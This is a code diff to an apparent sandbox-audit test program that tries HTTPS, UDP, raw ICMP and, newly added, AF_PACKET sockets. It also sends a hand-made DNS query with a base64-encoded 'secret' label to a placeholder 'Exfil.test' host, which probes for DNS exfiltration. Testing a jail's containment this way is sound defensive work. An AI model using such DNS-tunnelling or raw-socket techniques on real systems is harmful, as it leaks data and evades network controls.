@@ -1,6 +1,6 @@
 # An unknown program to audit: it resolves names through the system
 # resolver, makes HTTPS requests to two hosts, sends UDP to a port, opens a
-# raw ICMP socket, asks a DNS server of its own choosing (a mixed-case
+# raw ICMP socket and a packet socket, asks a DNS server of its own choosing (a mixed-case
 # label: base64 of a payload) and forks a child that connects. It prints
 # its pids and what each attempt gave, never a secret.
 #
@@ -40,6 +40,12 @@ def raw_icmp():
     return "opened"
 
 
+def packet_socket():
+    # A family the jail's seccomp filter refuses.
+    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
+    return "opened"
+
+
 def dns_query(name):
     # A query by hand to HOST:53, as a program with its own resolver does.
     q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
@@ -58,6 +64,7 @@ attempt("https-allowed", lambda: get("https://allowed.test/audit"))
 attempt("https-denied", lambda: get("https://denied.test/audit"))
 attempt("udp", udp_send)
 attempt("raw", raw_icmp)
+attempt("packet", packet_socket)
 attempt("dns", lambda: dns_query("c2VjcmV0.Exfil.test"))
 
 pid = os.fork()
